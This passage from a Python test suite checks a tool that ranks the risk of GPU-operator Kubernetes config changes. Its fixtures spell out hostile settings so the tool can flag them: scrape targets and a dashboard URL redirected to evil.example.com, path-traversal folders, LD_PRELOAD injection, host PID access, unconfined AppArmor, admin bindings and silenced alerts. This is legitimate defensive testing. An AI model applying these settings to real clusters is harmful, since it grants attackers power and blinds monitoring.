            "references": [{"kind": "ConfigMap", "name": "x", "keys": ["nvidia.conf"]}],
        },
    ),
    "GPU clients": request("lab-a100", {"migManager": {"gpuClientsConfig": {"name": "clients"}}}),
    "network of the host": request("lab-a100", {"dcgmExporter": {"hostNetwork": True}}),
    "processes of the host": request("lab-a100", {"dcgmExporter": {"hostPID": True}}),
    "path of the host": request("lab-a100", {"hostPaths": {"rootFS": "/mnt"}}),
    "profile of AppArmor": request(
        "lab-a100", {"daemonsets": {"podSecurityContext": {"appArmorProfile": {"type": "Unconfined"}}}}
    ),
    "everything tolerated": request("lab-a100", {"daemonsets": {"tolerations": [{"operator": "Exists"}]}}),
    "sidecar by annotation": request("lab-a100", {"daemonsets": {"annotations": {"sidecar.istio.io/inject": "true"}}}),
    "targets by relabeling": request(
        "lab-a100",
        {
            "dcgmExporter": {
                "serviceMonitor": {"relabelings": [{"targetLabel": "__address__", "replacement": "evil.example.com"}]}
            }
        },
    ),
    "pull secret": request("lab-a100", {"driver": {"imagePullSecrets": ["other"]}}),
    "priority": request("lab-a100", {"daemonsets": {"priorityClassName": "low"}}),
    "shared GPUs": request("lab-a100", pool("training", sharing=SHARED)),
    "name of a common alert": request(
        "lab-a100",
        extra(
            alert(
                {
                    "alert": "InfoInhibitor",
                    "expr": "vector(1)",
                    "labels": {"namespace": "gpu-operator", "severity": "none"},
                },
                name="mine",
            )
        ),
    ),
    "name of another object's alert": request("lab-a100", extra(alert(HOT), alert(HOT, name="b")), extra(alert(HOT))),
    "alert of another namespace": request("lab-a100", extra(alert({**HOT, "labels": {"namespace": "shop"}}))),
    "alert that silences": request("lab-a100", extra(alert({**HOT, "labels": {"severity": "none"}}))),
    "path of the plugin's root": request(
        "train-dgx",
        plugin(sharing=SLICED, flags={"plugin": {"deviceListStrategy": ["envvar"], "containerDriverRoot": "/evil"}}),
        plugin(sharing=SLICED),
    ),
    "new text of the plugin with a root": request("train-dgx", plugin(flags={"plugin": {"passDeviceSpecs": True}})),
    "text of the plugin with an alias": request(
        "train-dgx",
        {
            "devicePlugin": {
                "config": {
                    "name": "plugin",
                    "create": True,
                    "data": {"default": "version: &a v1\nsharing: {mps: *a}\n"},
                }
            }
        },
    ),
    "tolerations in the place of the policy's": request(
        "lab-a100", carried(tolerations=[{"key": "zzz", "operator": "Exists"}])
    ),
    "no tolerations in the place of the policy's": request(
        "lab-a100", {**carried(tolerations=[]), "dcgmExporter": {"enablePodUID": True}}, carried()
    ),
    "confidential computing off": request("lab-a100", {"ccManager": {"enabled": False}, **SANDBOX}, SANDBOX),
    "dashboard in a folder of the sidecar": request("lab-a100", extra(files(notes={TARGET: "/etc"}, a_json="{}"))),
    "dashboard in a folder above": request("lab-a100", extra(files(notes={TARGET: "a/../../b"}, a_json="{}"))),
    "dashboard in a folder above, by its other name": request(
        "lab-a100", extra(files(notes={"grafana_folder": "../b"}, a_json="{}"))
    ),
    "address among dashboards": request("lab-a100", extra(files(a_url="https://evil.example.com"))),
    "script among dashboards": request("lab-a100", extra(files(a_json="{}", a_sh="exit"))),
    "label of a dashboard for a script": request(
        "lab-a100",
        extra(files(a_sh="exit")),
        extra(thing("v1", "ConfigMap", "board", data={"a.sh": "exit"})),
    ),
    **{
        f"ConfigMap read by {argument[:40]}": request(
            "lab-a100",
            extra(workload(args=[argument]), NOTES_CHANGED),
            extra(workload(args=[argument]), NOTES),
        )
        for argument in (
            "--config=gpu-operator/handbook",
            "--from=configmap:handbook",
            "--url=k8s://gpu-operator/handbook",
            "kubectl get cm 'handbook'",
            f"{'# padding ' * 500} kubectl get cm handbook",
        )
    },
    "ConfigMap of the autoscaler": request(
        "lab-a100", extra(thing("v1", "ConfigMap", "cluster-autoscaler-priority-expander", data={"priorities": "a"}))
    ),
    "series that another object reads": request(
        "lab-a100",
        extra(recorded("avg(a)"), alert({**HOT, "expr": "lab:util:avg > 1"}, name="b")),
        extra(alert({**HOT, "expr": "lab:util:avg > 1"}, name="b")),
    ),
    "alert with a milder twin": request(
        "lab-a100",
        extra(alert(HOT, {**HOT, "expr": "vector(1)", "labels": {"severity": "info"}})),
        extra(alert(HOT)),
    ),
    **{
        f"image by {how} that its registry moves": request("lab-a100", after, base)
        for how, after, base in (
            ("a pull each time", {"devicePlugin": {"imagePullPolicy": "Always"}}, {}),
            ("a pull each time, beside a pin of another", {"toolkit": {"imagePullPolicy": "Always"}}, PINNED),
            ("a pull of one driver each time", {"driver": {"imagePullPolicy": "Always"}}, {}),
            ("a tag of one number", {"devicePlugin": {"version": "v1"}}, {}),
            ("a tag of two numbers", {"toolkit": {"version": "v1.21"}}, {}),
            ("a tag that says nightly", {"dcgmExporter": {"version": "9.9.9-nightly"}}, {}),
            ("a tag that says latest", {"toolkit": {"version": "v1.30.0-latest"}}, {}),
            ("a tag of an own tool", extra(workload(image="registry.example.com/tools/a:2")), extra(workload())),
            ("a pull of an own tool", extra(workload(imagePullPolicy="Always")), extra(workload())),
            (
                "what Kubernetes does with latest",
                extra(workload(image=LATEST)),
                extra(workload(image=LATEST, imagePullPolicy="IfNotPresent")),
            ),
        )
    },
    **{
        f"{key} on a new object": request("lab-a100", extra(noted(key, value)))
        for key, value in (
            ("argocd.argoproj.io/hook", "PreSync"),
            ("argocd.argoproj.io/sync-options", "Replace=true"),
            ("argocd.argoproj.io/owner", "a"),
            ("kustomize.toolkit.fluxcd.io/prune", "disabled"),
            ("kustomize.toolkit.fluxcd.io/force", "enabled"),
            ("kustomize.toolkit.fluxcd.io/ssa", "Ignore"),
            ("kustomize.toolkit.fluxcd.io/substitute", "disabled"),
            ("helm.sh/hook", "pre-install"),
            ("helm.sh/resource-policy", "keep"),
        )
    },
    **{
        f"{key} of the components": request("lab-a100", {"daemonsets": {"annotations": {key: "a"}}})
        for key in ("argocd.argoproj.io/project", "kustomize.toolkit.fluxcd.io/owner", "helm.sh/description")
    },
    "digest that nobody locked": request("lab-a100", {"cluster": {"imageDigests": {PIN: f"sha256:{'c' * 64}"}}}),
}
OUTAGES: dict[str, Request] = {
    "alerts go": request("mixed-campus", {"alerts": {"enabled": False}}),
    "an alert goes": request("mixed-campus", {"alerts": {"rules": {"XidFatal": {"enabled": False}}}}),
    "an alert asks for more": request("mixed-campus", {"alerts": {"rules": {"XidFatal": {"nodes": 500}}}}),
    "an alert is silenced": request(
        "mixed-campus", {"alerts": {"silence": [{"alert": "XidFatal", "reason": "known", "until": "2027-12-31"}]}}
    ),
    "alerts go elsewhere": request("mixed-campus", {"alerts": {"labels": {"team": "nobody"}}}),
    "older driver": request("lab-a100", {"driver": {"version": "580.126.20"}}),
    "older release": request("lab-a100", {"release": "v26.3.1"}),
    "a thousand pods on a GPU": request(
        "lab-a100",
        pool("training", sharing={"timeSlicing": {"replicas": 1000}}),
        pool("training", sharing={"timeSlicing": {"replicas": 2}}),
    ),
    "a thousand pods on a GPU, by a text": request(
        "train-dgx",
        plugin(sharing={"timeSlicing": {"resources": [{"name": "nvidia.com/gpu", "replicas": 1000}]}}),
        plugin(sharing=SLICED),
    ),
    "forty-eight clients of MPS": request(
        "lab-a100",
        pool("training", sharing={"mps": {"replicas": 48}}),
        pool("training", sharing={"mps": {"replicas": 2}}),
    ),
    "MPS restarts": request(
        "lab-a100", {"devicePlugin": {"version": "v0.20.1"}}, pool("training", sharing={"mps": {"replicas": 2}})
    ),
    "fewer instances of GPUs that nobody counts": request(
        "lab-a100",
        pool("training", gpusPerNode=None, sharing={"mig": {"layout": {"3g.40gb": 1, "2g.20gb": 1}}}),
        pool("training", gpusPerNode=8, sharing={"mig": {"layout": {"3g.40gb": 1, "2g.20gb": 2}}}),
    ),
    "fewer instances, counted on no side": request(
        "lab-a100",
        pool("training", gpusPerNode=None, sharing={"mig": {"layout": {"3g.40gb": 1, "2g.20gb": 1}}}),
        pool("training", gpusPerNode=None, sharing={"mig": {"layout": {"3g.40gb": 1, "2g.20gb": 2}}}),
    ),
    "a monitor that is cleaned up": request(
        "lab-a100", {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"cleanup.kyverno.io/ttl": "1s"}}}}
    ),
    "a monitor that is passed over": request(
        "lab-a100",
        {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"openshift.io/user-monitoring": "false"}}}},
    ),
    "less memory than what is built in": request(
        "lab-a100", {"nfd": {"master": {"resources": {"limits": {"memory": "128Mi"}}}}}
    ),
    "an hour before the first probe": request(
        "lab-a100",
        {"driver": {"startupProbe": {**PROBE, "initialDelaySeconds": 3600}}},
        {"driver": {"startupProbe": PROBE}},
    ),
    "scraped as often as somebody says": request("lab-a100", extra(monitor()), extra(monitor(interval="15s"))),
    "driver off": request("lab-a100", {"driver": {"enabled": False}}),
    "device plugin off": request("lab-a100", {"devicePlugin": {"enabled": False}}),
    "reconciler stopped": request("lab-a100", {"reconciler": {"replicas": 0}}),
    "nodes of a pool": request("lab-a100", pool("training", nodeSelector={"example.com/pool": "x"})),
    "fewer GPUs": request("lab-a100", pool("training", gpusPerNode=4)),
    "another namespace": request("lab-a100", {"cluster": {"namespace": "other"}}),
    "pruning": Request("lab-a100", {}, {"gitops": {"argocd": {"prune": False}}}),
    "own tool that goes": Request("lab-a100", {}, extra(workload())),
    "a third of an own tool": Request("lab-a100", spec_of(replicas=1), spec_of(replicas=3)),
    "own tool at its default": Request("lab-a100", spec_of(replicas=None), spec_of(replicas=4)),
    "own tool stopped": request(
        "lab-a100", extra({**workload(), "spec": {**workload()["spec"], "replicas": 0}}), extra(workload())
    ),
    "alert silenced": request("lab-a100", extra(alert({**HOT, "for": "999h"})), extra(alert(HOT))),
    "alerts less": request("lab-a100", extra(alert(HOT)), extra(alert(HOT, {**HOT, "alert": "Hotter"}))),
    "Flux looks once a year": request("train-dgx", {"gitops": {"flux": {"interval": "8760h"}}}),
    "Flux looks six times as seldom": request("train-dgx", {"gitops": {"flux": {"interval": "1h"}}}),
    "Flux looks as by default again": Request("train-dgx", {}, {"gitops": {"flux": {"interval": "1m"}}}),
    "drift left alone": request("lab-a100", {"gitops": {"argocd": {"selfHeal": False}}}),
    "another wave": request("lab-a100", extra(waved("-99")), extra(waved("1"))),
    "a wave of a new object": request("lab-a100", extra(waved("-99"))),
    "exporter's address leads to the own node's": request(
        "lab-a100", {"dcgmExporter": {"service": {"internalTrafficPolicy": "Local"}}}
    ),
    "exporter's address leads to any node's": Request(
        "lab-a100", {}, {"dcgmExporter": {"service": {"internalTrafficPolicy": "Local"}}}
    ),
    "a wave where there was none": request("lab-a100", extra(waved("-99")), extra(dashboard())),
    "query in an alert's text": request(
        "lab-a100",
        extra(alert({**HOT, "annotations": {"a": "{{ range query `up` }}{{ . }}{{ end }}"}})),
        extra(alert(HOT)),
    ),
    "query in the parentheses of an alert's text": request(
        "lab-a100",
        extra(alert({**HOT, "annotations": {"a": "{{ $labels.a }}{{ (query `up` | first).Value }}"}})),
        extra(alert({**HOT, "annotations": {"a": "{{ $labels.a }}"}})),
    ),
    "reconciler that tolerates nothing": request("lab-a100", {"reconciler": {"tolerations": []}}),
    **{
        f"{part} that tolerates nothing": request("lab-a100", {"nfd": {part: {"tolerations": []}}})
        for part in ("master", "worker", "gc")
    },
    "rules once a year": request("lab-a100", extra(group(HOT, interval="8760h")), extra(group(HOT))),
    "rules without a pause": request("lab-a100", extra(group(HOT, interval="1s")), extra(group(HOT))),
    "ConfigMap for ever": request(
        "lab-a100",
        extra(thing("v1", "ConfigMap", "h", data={"a": "b"}, immutable=True)),
        extra(thing("v1", "ConfigMap", "h", data={"a": "b"})),
    ),
    "driver's probe that fails at once": request(
        "lab-a100",
        {
            "driver": {
                "startupProbe": {
                    "initialDelaySeconds": 0,
                    "periodSeconds": 1,
                    "timeoutSeconds": 1,
                    "failureThreshold": 1,
                }
            }
        },
    ),
    "driver without memory": request("lab-a100", {"driver": {"resources": {"limits": {"memory": "8Mi"}}}}),
    "driver never pulled": request("lab-a100", {"driver": {"imagePullPolicy": "Never"}}),
    "plugin without memory": request("lab-a100", {"devicePlugin": {"resources": {"limits": {"memory": "4Mi"}}}}),
    "plugin on no node": request("lab-a100", {"devicePlugin": {"resources": {"requests": {"cpu": 5000}}}}),
    "plugin with a hundredth": request(
        "lab-a100",
        {"devicePlugin": {"resources": {"limits": {"memory": "200Mi"}}}},
        {"devicePlugin": {"resources": {"limits": {"memory": "20Gi"}}}},
    ),
    "reconciler without memory": request("lab-a100", {"reconciler": {"resources": {"limits": {"memory": "1Mi"}}}}),
    "reconciler in a hurry": request("lab-a100", {"reconciler": {"deadlines": {"driver": 600}}}),
    "toolkit back": request("lab-a100", {"toolkit": {"version": "v1.16.1"}}),
    "plugin back": request("lab-a100", {"devicePlugin": {"version": "v0.14.0"}}),
    "exporter's second number back": request("lab-a100", {"dcgmExporter": {"version": "4.6.0-4.7.9-distroless"}}),
    "own tool back": request(
        "lab-a100", extra(workload(image="registry.example.com/tools/a:0.0.1")), extra(workload())
    ),
    "scraped once a year": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"interval": "8760h"}}}),
    "scraped in no time": request("lab-a100", {"dcgmExporter": {"serviceMonitor": {"scrapeTimeout": "1ms"}}}),
    "label by which Prometheus finds it": request(
        "lab-a100",
        {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"release": "b"}}}},
        {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"release": "a"}}}},
    ),
    "label by which Prometheus finds it, gone": Request(
        "lab-a100", {}, {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {"release": "a"}}}}
    ),
    "own tool a hundred thousand times": request("lab-a100", spec_of(replicas=100000), extra(workload())),
    "own tool that is never ready": request("lab-a100", spec_of(minReadySeconds=2000000000), extra(workload())),
    "own tool on no node": request("lab-a100", sized(requests={"cpu": 100000}), extra(workload())),
    "own tool without memory": request("lab-a100", sized(limits={"memory": "1Ki"}), extra(workload())),
    "GFD asleep": request("lab-a100", {"gfd": {"env": [{"name": "GFD_SLEEP_INTERVAL", "value": "999999999s"}]}}),
    "labels taken back at once": request("lab-a100", {"reconciler": {"labelGraceSeconds": 0}}),
    "labels taken back sooner than by default": Request("lab-a100", {}, {"reconciler": {"labelGraceSeconds": 7200}}),
    "deadline back to the default": Request("lab-a100", {}, {"reconciler": {"deadlines": {"driver": 86400}}}),
    "own tool back to half a minute": request(
        "lab-a100", extra(workload()), extra(workload(pod={"terminationGracePeriodSeconds": 3600}))
    ),
    "container that waits for the driver left out": request(
        "lab-a100", carried(without=["gpustack-wait-for-driver"]), carried()
    ),
    "labels never taken back": request("lab-a100", {"reconciler": {"labelGraceSeconds": 999999999}}),
    "drain that never ends": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 999999999})),
    "runtime of all pools": request(
        "lab-a100", {"nodePools": [{"name": name, "containerRuntime": "cri-o"} for name in ("training", "notebooks")]}
    ),
    "product of a pool": request("lab-a100", pool("training", gpuProduct="NVIDIA-H100-80GB-HBM3")),
    "layout of nodes without one": request("lab-a100", {"migManager": {"config": {"default": ""}}}),
    "vGPUs of nodes without any said": request(
        "lab-a100", {"vgpuDeviceManager": {"config": {"default": "other"}}, **SANDBOX}, SANDBOX
    ),
    "drain without end": request("train-dgx", upgrade(drain={"timeoutSeconds": 0})),
    "deletion without end": request("train-dgx", upgrade(podDeletion={"timeoutSeconds": 0})),
    "jobs without end": request("train-dgx", upgrade(waitForCompletion={"timeoutSeconds": 0})),
    "GPUDirect Storage off": request("train-dgx", {"gds": {"enabled": False}}),
    "GDRCopy off": request("train-dgx", {"gdrcopy": {"enabled": False}}),
    "RDMA off": request("train-dgx", {"driver": {"rdma": {"enabled": False}}}),
    "DCGM off": request("train-dgx", {"dcgm": {"enabled": False}}),
    "CDI off": request("lab-a100", {"cdi": {"enabled": False}}),
    "upgrades let go": request("lab-a100", upgrade(autoUpgrade=True), upgrade(autoUpgrade=False)),
    "series of everything": request("lab-a100", extra(recorded('count({__name__=~".+"})'))),
    "series of everything else": request("lab-a100", extra(recorded('count({job!="a"})'))),
    "series of everything too": request("lab-a100", extra(recorded('a or {__name__=~".+"}'))),
    "series of everything beside a comment": request("lab-a100", extra(recorded('a or {# "\n__name__=~".+"}'))),
    **{
        f"alert that no Prometheus reads, {number}": request("lab-a100", extra(alert(HOT, broken)), extra(alert(HOT)))
        for number, broken in enumerate(
            [
                {**HOT, "alert": "B", "expr": "))(("},
                {**HOT, "alert": "B", "annotations": {"a": "{{ $labels."}},
                {**HOT, "alert": "B", "annotations": {"a-b": "c"}},
                {**HOT, "alert": "B", "labels": {"a-b": "c"}},
            ]
        )
    },
    "dashboard that no Grafana reads": request("lab-a100", extra(dashboard("{")), extra(dashboard())),
    "shares refused": request(
        "lab-a100", pool("notebooks", sharing={"timeSlicing": {"replicas": 4, "failRequestsGreaterThanOne": True}})
    ),
    "shares refused by the plugin's text": request(
        "train-dgx",
        plugin(sharing={"timeSlicing": {**SLICED["timeSlicing"], "failRequestsGreaterThanOne": True}}),
        plugin(sharing=SLICED),
    ),
    "PCI class less": request("lab-a100", {"nfd": {"pciClasses": ["12"]}}, {"nfd": {"pciClasses": ["0b40", "12"]}}),
    "pods replaced by hand": request("lab-a100", {"daemonsets": {"updateStrategy": "OnDelete"}}),
    "another engine": request("lab-a100", {"gitops": {"engine": "flux"}}),
    "tolerations less": Request("lab-a100", {}, {"daemonsets": {"tolerations": [{"key": "a", "operator": "Exists"}]}}),
}


def test_a_digest_of_the_lock_is_planned() -> None:
    """What images.lock has, or another cluster of the base, may be pinned; anything else is power."""
    digest = f"sha256:{'c' * 64}"
    one = loaded("lab-a100", {}).spec
    two = loaded("lab-a100", {"cluster": {"imageDigests": {PIN: digest}}}).spec
    (step,) = steps(one, two, Fleet.of([one], [two], [(PIN, digest)]))
    assert step.tier == PLANNED
    (step,) = steps(one, two, Fleet.of([one, two], [two]))
    assert step.tier == PLANNED
    (step,) = steps(one, two, Fleet.of([one], [two], [(PIN, f"sha256:{'d' * 64}")]))
    assert step.tier == POWER


B = {"gitops": {"argocd": {"destination": {"name": "lab-b"}}}}
EVERYTHING = {"daemonsets": {"tolerations": [{"operator": "Exists"}]}}
TAINTED = pool("training", taints=[{"key": "example.com/tenant", "effect": "NoExecute"}])
DEFAULT_BOUND = thing(
    RBAC,
    "RoleBinding",
    "tools",
    roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
    subjects=[{"kind": "ServiceAccount", "name": "default", "namespace": "gpu-operator"}],
)
WALL = thing("networking.k8s.io/v1", "NetworkPolicy", "wall", spec={"podSelector": {}, "policyTypes": ["Egress"]})
MIRRORED = {"cluster": {"registryMap": {"nvcr.io": "mirror.example.com/nvcr"}}}
APART: dict[str, tuple[Values, Values, Values]] = {
    "image and version": (
        {"driver": {"repository": "mirror.example.com/nvidia"}},
        {"driver": {"version": "580.126.20"}},
        {"driver": {"repository": "mirror.example.com/nvidia", "version": "580.126.20"}},
    ),
    "toleration and pool": (EVERYTHING, TAINTED, {**EVERYTHING, **TAINTED}),
    "project and repository": (
        {"gitops": {"argocd": {"project": "infra"}}},
        {"gitops": {"repository": {"url": "https://git.example.com/b.git"}}},
        {"gitops": {"argocd": {"project": "infra"}, "repository": {"url": "https://git.example.com/b.git"}}},
    ),
    "mirror and pins": (
        {**MIRRORED, "cluster": {**MIRRORED["cluster"], "imageDigests": {PIN: DIGEST}}},
        {"reconciler": {"breakerFailures": 3}},
        {**MIRRORED, "reconciler": {"breakerFailures": 3}},
    ),
    "account and workload": (extra(DEFAULT_BOUND), extra(workload()), extra(DEFAULT_BOUND, workload())),
    "workload and its wall": (extra(workload(), WALL), {}, extra(workload())),
}


@pytest.mark.parametrize("name", APART)
def test_what_clusters_say_apart_is_not_known_together(name: str) -> None:
    """A new cluster that says some of one and some of another is news; one that says what one of them does is not."""
    one, two, here = APART[name]
    others = [loaded("lab-a100", each).spec for each in (one, two)]
    there = loaded("lab-a100", laid(here, B))
    changes = compare({}, rendered(there))

    def judged(*before: Any) -> Any:
        known = Fleet.of(before, [there.spec])
        return impact({"c": changes}, {"c": (None, there.spec)}, new={"c"}, fleet=lambda: known)

    assert judged(*others).tier == POWER
    assert judged(*others, loaded("lab-a100", here).spec).tier == PLANNED


def and_more(**limits: Any) -> Values:
    """A further pool with limits of its own."""
    return {"nodePools": [*WINDOWS["nodePools"], {"name": "more", "upgrade": limits, **NEW_POOL}]}


WINDOWS: Values = {"reconciler": {"windows": [WINDOW]}, **pool("training", upgrade={"windows": [WINDOW]})}
ALWAYS = {"start": "00:00", "hours": 24, "timeZone": "UTC"}
LOOSE: dict[str, tuple[Values, int]] = {
    "no limit of nodes": (upgrade(maxParallelUpgrades=0), POWER),
    "more nodes at once": (upgrade(maxParallelUpgrades=8), POWER),
    "all nodes out of service": (upgrade(maxUnavailable="100%"), POWER),
    "operands all at once": ({"daemonsets": {"rollingUpdate": {"maxUnavailable": "100%"}}}, POWER),
    "nobody rolls drivers": (upgrade(autoUpgrade=False), POWER),
    "no time for a drain": (upgrade(drain={"timeoutSeconds": 1}), POWER),
    "no breaker": ({"reconciler": {"breakerFailures": 0}}, POWER),
    "all that is new at once": ({"reconciler": {"installParallel": 5000}}, POWER),
    "nobody heals": ({"gitops": {"argocd": {"selfHeal": False}}}, POWER),
    "two hundred pods on a GPU": (
        {"nodePools": [{**WINDOWS["nodePools"][0], "sharing": {"timeSlicing": {"replicas": 200}}}]},
        OUTAGE,
    ),
    "no windows": ({"reconciler": {"windows": []}}, POWER),
    "windows all week": ({"reconciler": {"windows": [ALWAYS]}}, POWER),
    "no windows of a pool": (pool("training", upgrade={"windows": []}), POWER),
    "a pool without a limit": (and_more(maxUnavailable="100%"), POWER),
    "a pool with more than the cluster": (and_more(maxParallel=4), POWER),
    "more time for a drain": (upgrade(drain={"timeoutSeconds": 600}), PLANNED),
    "a pool with as many as the cluster": (and_more(maxParallel=1), PLANNED),
    "what the other has": ({}, PLANNED),
}


@pytest.mark.parametrize("name", LOOSE)
def test_guards_of_a_new_cluster_are_held_against_those_of_another(name: str) -> None:
    """It is judged like a change of what it is most like, and, where that says nothing, of the default: as an existing
    cluster would be. What is no looser is planned.
    """
    over, tier = LOOSE[name]
    other, here = loaded("lab-a100", WINDOWS), loaded("lab-a100", laid(laid(WINDOWS, over), B))
    found = steps(None, here.spec, Fleet.of([other.spec], [here.spec]))
    assert min(step.tier for step in found) == tier


def test_what_is_otherwise_in_a_new_cluster_is_told() -> None:
    """Field by field, against the cluster that it is most like."""
    over = pool("training", sharing={"timeSlicing": {"replicas": 4}})
    other, here = loaded("lab-a100", {}), loaded("lab-a100", laid(over, B))
    fleet = Fleet.of([other.spec], [here.spec])
    found = impact({"c": compare({}, rendered(here))}, {"c": (None, here.spec)}, new={"c"}, fleet=lambda: fleet)
    (told,) = (effect.what for effect in found.effects if effect.rule == "IMP906")
    assert "nodePools.training.sharing.timeSlicing.replicas: not set -> 4" in told


def test_a_new_cluster_may_be_a_copy() -> None:
    """What another cluster of the base says, and the objects that it brings along, are no news in a new one."""
    over = {
        "reconciler": {"breakerFailures": 3},
        "dcgmExporter": {"config": {"name": "metrics"}},
        "driver": {"kernelModuleConfig": {"name": "kernel-module"}},
        "migManager": {"gpuClientsConfig": {"name": "clients"}},
        "references": [
            {"kind": "ConfigMap", "name": "metrics", "keys": ["dcgm-metrics.csv"]},
            {"kind": "ConfigMap", "name": "kernel-module", "keys": ["nvidia.conf"]},
            {"kind": "ConfigMap", "name": "clients", "keys": ["clients.yaml"]},
        ],
        **extra(BINDING, workload()),
    }
    there, copy = loaded("lab-a100", over), {**over, "gitops": {"argocd": {"destination": {"name": "lab-b"}}}}
    here = loaded("lab-a100", copy)
    changes = compare({}, rendered(here))

    def judged(*others: Any) -> Any:
        known = Fleet.of([other.spec for other in others], [here.spec])
        return impact({"c": changes}, {"c": (None, here.spec)}, new={"c"}, fleet=lambda: known)

    assert judged(there).tier == PLANNED
    assert judged(loaded("lab-a100", {})).tier == POWER


REPOS = thing(
    "v1", "ConfigMap", "driver-repos", data={"a.list": "deb [trusted=yes] https://apt.example.org/ubuntu noble main"}
)
TRUSTED = {"driver": {"repoConfig": {"configMapName": "driver-repos"}}}
OTHERS = {**REPOS, "data": {"a.list": "deb https://apt.example.com/ubuntu noble main"}}
MOUNTS = workload(pod={"volumes": [{"name": "a", "configMap": {"name": "driver-repos"}}]})
READS: dict[str, tuple[Values, Values, Values]] = {
    "a field": (extra(REPOS), {**TRUSTED, **extra(OTHERS)}, {**TRUSTED, **extra(REPOS)}),
    "a component that is on": (
        {"driver": {"enabled": False, "repoConfig": {"configMapName": "driver-repos"}}, **extra(REPOS)},
        {**TRUSTED, **extra(OTHERS)},
        {**TRUSTED, **extra(REPOS)},
    ),
    "an object": (extra(REPOS), extra(OTHERS, MOUNTS), extra(REPOS, MOUNTS)),
}


@pytest.mark.parametrize("name", READS)
def test_what_nothing_reads_in_one_cluster_is_news_where_something_does(name: str) -> None:
    """An object of one cluster of the base and its reader of another aren't known together: IMP901 tells it."""
    inert, reading, new = READS[name]
    others = [loaded("lab-a100", each).spec for each in (inert, reading)]
    here = loaded("lab-a100", {**new, "gitops": {"argocd": {"destination": {"name": "lab-b"}}}})
    changes = compare({}, rendered(here))

    def judged(*before: Any) -> Any:
        known = Fleet.of(before, [here.spec])
        return impact({"c": changes}, {"c": (None, here.spec)}, new={"c"}, fleet=lambda: known)

    found = judged(*others)
    assert found.tier == POWER
    assert ("IMP901", "ConfigMap gpu-operator/driver-repos") in {(each.rule, each.where) for each in found.red}
    assert judged(*others, loaded("lab-a100", new).spec).tier == PLANNED


@pytest.mark.parametrize(
    ("over", "rule", "tier"),
    [
        ({"cluster": {"kubernetesVersion": "1.35"}}, "IMP705", PLANNED),
        ({"gds": {"imagePullPolicy": "Always"}}, "IMP905", POWER),  # of what is off until the next request
        ({"reconciler": {"labelGraceSeconds": 3600}}, "IMP906", PLANNED),
        ({"cluster": {"kubernetesVersion": "1.33"}}, "IMP905", OUTAGE),
        ({"driver": {"upgradePolicy": {"drain": {"force": True}}}}, "IMP905", POWER),
    ],
)
def test_a_policy_that_renders_the_same_is_judged(over: Values, rule: str, tier: int) -> None:
    """A field that changes is told, though no object does."""
    one, two = loaded("lab-a100", {}).spec, loaded("lab-a100", over).spec
    found = impact({"c": ()}, {"c": (one, two)})
    assert (rule, tier) in {(effect.rule, effect.tier) for effect in found.effects}


@pytest.mark.parametrize("name", POWERS)
def test_a_power_is_never_below_its_tier(name: str) -> None:
    """What gives power is of tier 1, and is told by a finding that somebody can accept."""
    found, changes = judge(POWERS[name], FLEET if POWERS[name].new else ())
    assert changes
    assert found.tier == POWER
    assert all(effect.before.startswith("sha256:") and effect.before != effect.after for effect in found.red)


@pytest.mark.parametrize("name", OUTAGES)
def test_an_outage_is_never_below_its_tier(name: str) -> None:
    """What takes something away outside a budget is of tier 2, or 1."""
    found, changes = judge(OUTAGES[name])
    assert changes
    assert found.tier is not None
    assert found.tier <= OUTAGE


@pytest.mark.parametrize(
    ("name", "rule", "said"),
    [
        ("everything tolerated", "IMP116", "everything"),
        ("new cluster on another's destination", "IMP807", "lab-a100"),
        ("path of the host written", "IMP203", "hostPath /var/log"),
        ("LD_PRELOAD of a component", "IMP905", "not set -> /x.so"),
        ("aws-auth", "IMP901", "namespace kube-system isn't the stack's own"),
        ("digest swapped", "IMP204", "sha256:aaaa"),
        ("quota that goes", "IMP902", "removed"),
    ],
)
def test_what_is_told_of_a_power(name: str, rule: str, said: str) -> None:
    """Each is called what it is."""
    found, _ = judge(POWERS[name], FLEET if POWERS[name].new else ())
    assert any(said in effect.what for effect in found.red if effect.rule == rule)
    assert "IMP102" not in {effect.rule for effect in found.red}


def test_guards_off_is_one_finding() -> None:
    """What one field takes away is accepted once: every guard stands in it, and another one less is another finding."""
    off, _ = judge(request("train-dgx", {"guards": {"mode": "Off"}}), FLEET)
    (found,) = [effect for effect in off.red if effect.rule == "IMP405"]
    names = {each.name for each in rendered(loaded("train-dgx", {})) if each.kind.startswith("ValidatingAdmission")}
    assert len(names) > 3
    assert all(found.what.count(name) == 2 for name in names), found.what
    assert {effect.where for effect in off.red} == {"", "spec.guards.mode"}
    fewer, _ = judge(request("lab-a100", {"guards": {"mode": "Off"}}), FLEET)
    assert {effect.before for effect in fewer.red}.isdisjoint({found.before})


def test_guards_that_refuse_from_now_on_are_accepted_once() -> None:
    """Audit to Deny waits for somebody at the field of the policy alone; its objects say what to do, which isn't what
    is done where a guard goes."""
    found, _ = judge(Request("train-dgx", {"guards": {"mode": "Deny"}}, {"guards": {"mode": "Audit"}}), FLEET)
    assert [(effect.rule, effect.where) for effect in found.red] == [("IMP905", "spec.guards.mode")]
    assert found.tier == POWER
    tighter = [effect for effect in found.effects if effect.rule == "IMP405"]
    assert tighter
    assert all("audit log" in effect.remedy and "keep it" not in effect.remedy for effect in tighter)
    back, _ = judge(Request("train-dgx", {"guards": {"mode": "Audit"}}, {"guards": {"mode": "Deny"}}), FLEET)
    assert "IMP405" in {effect.rule for effect in back.red}


def test_a_section_that_is_new_had_no_values() -> None:
    """Defaults of a section that wasn't there aren't told as what it said."""
    one = loaded("lab-a100", {}).spec.model_copy(update={"gitops": None})
    gitops = {"engine": "flux", "repository": {"url": "https://git.example.com/gpu.git", "path": ".", "revision": "v1"}}
    two = GitOps.model_validate(gitops)
    found = impact({"c": ()}, {"c": (one, one.model_copy(update={"gitops": two}))})
    told = {effect.where: effect.what for effect in found.red}
    assert (told["spec.gitops.repository.path"], told["spec.gitops.repository.revision"]) == (
        "not set -> .",
        "not set -> v1",
    )


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        (
            request("train-dgx", {"devicePlugin": {"env": [{"name": "LD_PRELOAD", "value": "/x"}]}}),
